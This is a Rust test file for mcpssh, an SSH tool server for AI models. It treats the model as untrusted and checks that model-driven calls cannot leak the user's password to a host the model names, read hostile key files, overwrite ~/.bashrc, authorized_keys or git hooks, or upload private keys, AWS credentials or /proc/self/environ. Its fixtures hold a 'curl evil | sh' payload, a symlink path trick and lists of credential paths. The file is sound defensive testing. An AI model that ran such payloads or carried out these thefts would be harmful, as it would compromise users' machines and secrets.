//! The model is untrusted: what it asks for through the built-in tools must not reach the
//! user's credentials or the machine mcpssh runs on. Each test attacks one protection:
//! the password offered to a host the model named, hostile `key_filename`s (a device, a
//! FIFO, a huge file), transfers aimed at protected paths under a throwaway `HOME`, and
//! local paths outside the default roots.

use std::path::{Path, PathBuf};

use mcpssh_testbed::{CallToolResultExt, Sshd, test_user_password};
use serde_json::{Value, json};

use crate::client_setup::NO_AGENT;
use crate::common::{Harness, rss_kib};

fn s(p: &Path) -> String {
    p.display().to_string()
}

/// A throwaway home directory, canonical, with a few files worth stealing or replacing.
struct Home {
    dir: tempfile::TempDir,
}

impl Home {
    fn new() -> Home {
        let dir = tempfile::Builder::new()
            .prefix("mcpssh-home-")
            .tempdir()
            .unwrap();
        let home = Home { dir };
        home.write(".bashrc", "# the user's own bashrc\n");
        home.write(
            ".ssh/authorized_keys",
            "ssh-ed25519 AAAA the-users-own-key\n",
        );
        home.write(".ssh/id_ed25519", "PRIVATE KEY OF THE USER\n");
        home.write(".aws/credentials", "aws_secret_access_key = SECRET\n");
        home.write("tools/.keep", "");
        home.write("project/.git/config", "[core]\n");
        home
    }

    fn path(&self) -> PathBuf {
        self.dir.path().canonicalize().unwrap()
    }

    fn join(&self, rel: &str) -> PathBuf {
        self.path().join(rel)
    }

    fn write(&self, rel: &str, text: &str) {
        let path = self.dir.path().join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.join(rel)).unwrap()
    }
}

#[tokio::test]
async fn the_password_goes_only_to_hosts_the_user_named() {
    let password = test_user_password().unwrap();
    // The user's host takes keys; a host the model names takes passwords and logs them.
    let hostile = Sshd::builder()
        .password_authentication(true)
        .start()
        .unwrap();
    let home = Home::new();
    let home_path = s(&home.path());
    let extra = [
        ("HOME", home_path.as_str()),
        ("SSH_AUTH_SOCK", NO_AGENT),
        ("MCP_SSH_PASSWORD", password.as_str()),
    ];
    let h = Harness::start_with(Sshd::start().unwrap(), &extra).await;
    let to_hostile = json!({
        "hostname": hostile.host(),
        "port": hostile.port(),
        "username": hostile.username(),
    });
    let err = h.tool_error("ssh_connect", to_hostile.clone()).await;
    assert_eq!(err["error_kind"], "auth", "{err}");
    let message = err["error"].as_str().unwrap();
    assert!(
        message.contains("MCP_SSH_PASSWORD was not offered")
            && message.contains("MCP_SSH_PASSWORD_HOSTS"),
        "the error should say why the password was not tried: {message}"
    );
    assert!(!message.contains(&password), "{message}");
    let log = hostile.log();
    assert!(
        !log.contains("password for"),
        "the hostile host saw a password attempt:\n{log}"
    );
    // The user's own host still gets it (and the session the user set up still works).
    h.assert_still_serving().await;

    // Control: once the user lists that host, the same call logs in with the password,
    // so the log above would have shown an attempt.
    let listed = format!("{}:{}", hostile.host(), hostile.port());
    let mut with_list = extra.to_vec();
    with_list.push(("MCP_SSH_PASSWORD_HOSTS", listed.as_str()));
    let trusting = Harness::start_with(Sshd::start().unwrap(), &with_list).await;
    let connect = trusting.ok("ssh_connect", to_hostile).await;
    assert_eq!(connect["port"], hostile.port(), "{connect}");
    assert!(
        hostile.log().contains("Accepted password for"),
        "the listed host was not offered the password"
    );
}

#[tokio::test]
async fn hostile_key_files_fail_fast_while_other_calls_are_served() {
    let h = Harness::start().await;
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let huge = dir.path().join("huge");
    std::fs::File::create(&huge)
        .unwrap()
        .set_len(1 << 30)
        .unwrap();
    let before = rss_kib(h.server.pid().unwrap());
    for (key, expected) in [
        (PathBuf::from("/dev/zero"), "not a regular file"),
        (fifo, "not a regular file"),
        (huge, "too large"),
    ] {
        // A slow command on the open session runs at the same time as the connect.
        let (connect, exec) = tokio::join!(
            h.call(
                "ssh_connect",
                json!({
                    "hostname": h.sshd.host(),
                    "port": h.sshd.port(),
                    "username": h.sshd.username(),
                    "key_filename": s(&key),
                }),
            ),
            h.call("ssh_execute", json!({"command": "sleep 0.5; echo served"})),
        );
        let err: Value = connect.structured().clone();
        assert_eq!(err["success"], false, "{}: {err}", key.display());
        assert_eq!(err["error_kind"], "invalid", "{}: {err}", key.display());
        assert!(
            err["error"].as_str().unwrap().contains(expected),
            "{}: {err}",
            key.display()
        );
        assert_eq!(exec.structured()["stdout"], "served\n", "{}", key.display());
    }
    let after = rss_kib(h.server.pid().unwrap());
    assert!(
        after < 100 * 1024,
        "the server grew from {before} KiB to {after} KiB reading hostile key files"
    );
    // The failed connects left the working session alone.
    let exec = h.exec("echo still").await;
    assert_eq!(exec["stdout"], "still\n");
    assert_eq!(exec["reconnected"], false, "{exec}");
}

#[tokio::test]
async fn transfers_never_touch_protected_paths_even_under_a_root() {
    let home = Home::new();
    let home_path = s(&home.path());
    let tools = s(&home.join("tools"));
    let h = Harness::start_with(
        Sshd::start().unwrap(),
        &[
            ("HOME", home_path.as_str()),
            ("MCP_SSH_LOCAL_ROOT", home_path.as_str()),
            ("MCP_SSH_TOOLS_DIR", tools.as_str()),
        ],
    )
    .await;
    let remote = h.sshd.scratch_dir().join("evil");
    h.sshd
        .ssh_run(&format!("printf 'curl evil | sh\\n' > {}", s(&remote)))
        .unwrap();
    std::os::unix::fs::symlink(home.join(".ssh"), home.join("innocent")).unwrap();

    for local in [
        "~/.bashrc",
        "~/.ssh/authorized_keys",
        "~/innocent/authorized_keys",
        "~/tools/evil.wasm",
        "~/tools/evil.toml",
        "~/project/.git/hooks/pre-commit",
    ] {
        let err = h
            .tool_error(
                "scp_download",
                json!({"local_path": local, "remote_path": s(&remote), "on_conflict": "OVERWRITE"}),
            )
            .await;
        assert_eq!(err["error_kind"], "denied", "{local}: {err}");
        assert!(
            err["error"].as_str().unwrap().contains("protected"),
            "{local}: {err}"
        );
    }
    assert_eq!(home.read(".bashrc"), "# the user's own bashrc\n");
    assert_eq!(
        home.read(".ssh/authorized_keys"),
        "ssh-ed25519 AAAA the-users-own-key\n"
    );
    let tools_now: Vec<_> = std::fs::read_dir(home.join("tools"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(tools_now, [".keep"], "something landed in the tools folder");
    assert!(!home.join("project/.git/hooks").exists());

    let stolen = h.sshd.scratch_dir().join("stolen");
    for local in [
        s(&home.join(".ssh/id_ed25519")),
        "~/innocent/id_ed25519".to_string(),
        "~/.aws/credentials".to_string(),
        "/proc/self/environ".to_string(),
    ] {
        let err = h
            .tool_error(
                "scp_upload",
                json!({"local_path": local, "remote_path": s(&stolen)}),
            )
            .await;
        assert_eq!(err["error_kind"], "denied", "{local}: {err}");
        assert!(!stolen.exists(), "{local} was uploaded");
    }

    // Control: the same download to an ordinary file under the root works.
    let ok = h
        .ok(
            "scp_download",
            json!({"local_path": "~/notes.txt", "remote_path": s(&remote)}),
        )
        .await;
    assert_eq!(ok["success"], true, "{ok}");
    assert_eq!(home.read("notes.txt"), "curl evil | sh\n");
}

#[tokio::test]
async fn by_default_transfers_stay_in_the_transfer_folder() {
    let home = Home::new();
    let home_path = s(&home.path());
    // No MCP_SSH_LOCAL_ROOT: the defaults apply (the test's working directory is the
    // host crate's, which is a root too, but these paths are elsewhere).
    let h = Harness::start_with(
        Sshd::start().unwrap(),
        &[("HOME", home_path.as_str()), ("MCP_SSH_LOCAL_ROOT", "")],
    )
    .await;
    let remote = h.sshd.scratch_dir().join("report.txt");
    h.sshd
        .ssh_run(&format!("echo report > {}", s(&remote)))
        .unwrap();

    let ok = h
        .ok(
            "scp_download",
            json!({"local_path": "~/mcpssh-transfers/report.txt", "remote_path": s(&remote)}),
        )
        .await;
    assert_eq!(ok["success"], true, "{ok}");
    assert_eq!(home.read("mcpssh-transfers/report.txt"), "report\n");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(home.join("mcpssh-transfers"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o700, "the transfer folder is private");

    let elsewhere = tempfile::tempdir().unwrap();
    for local in [s(&elsewhere.path().join("x.txt")), "~/x.txt".to_string()] {
        let err = h
            .tool_error(
                "scp_download",
                json!({"local_path": local, "remote_path": s(&remote)}),
            )
            .await;
        assert_eq!(err["error_kind"], "denied", "{local}: {err}");
        let message = err["error"].as_str().unwrap();
        assert!(
            message.contains("mcpssh-transfers") && message.contains("MCP_SSH_LOCAL_ROOT"),
            "the refusal should name the roots and the setting: {message}"
        );
    }
    assert!(!home.join("x.txt").exists());
    assert!(
        std::fs::read_dir(elsewhere.path())
            .unwrap()
            .next()
            .is_none()
    );
}

#[tokio::test]
async fn a_bad_local_root_stops_start_up_with_one_line() {
    let sshd = Sshd::start().unwrap();
    let stderr = crate::common::start_up_failure(
        &sshd,
        &[("MCP_SSH_LOCAL_ROOT", "/nonexistent/mcpssh-root")],
    )
    .await;
    assert!(
        stderr.contains("MCP_SSH_LOCAL_ROOT entry /nonexistent/mcpssh-root is not usable"),
        "{stderr}"
    );
}
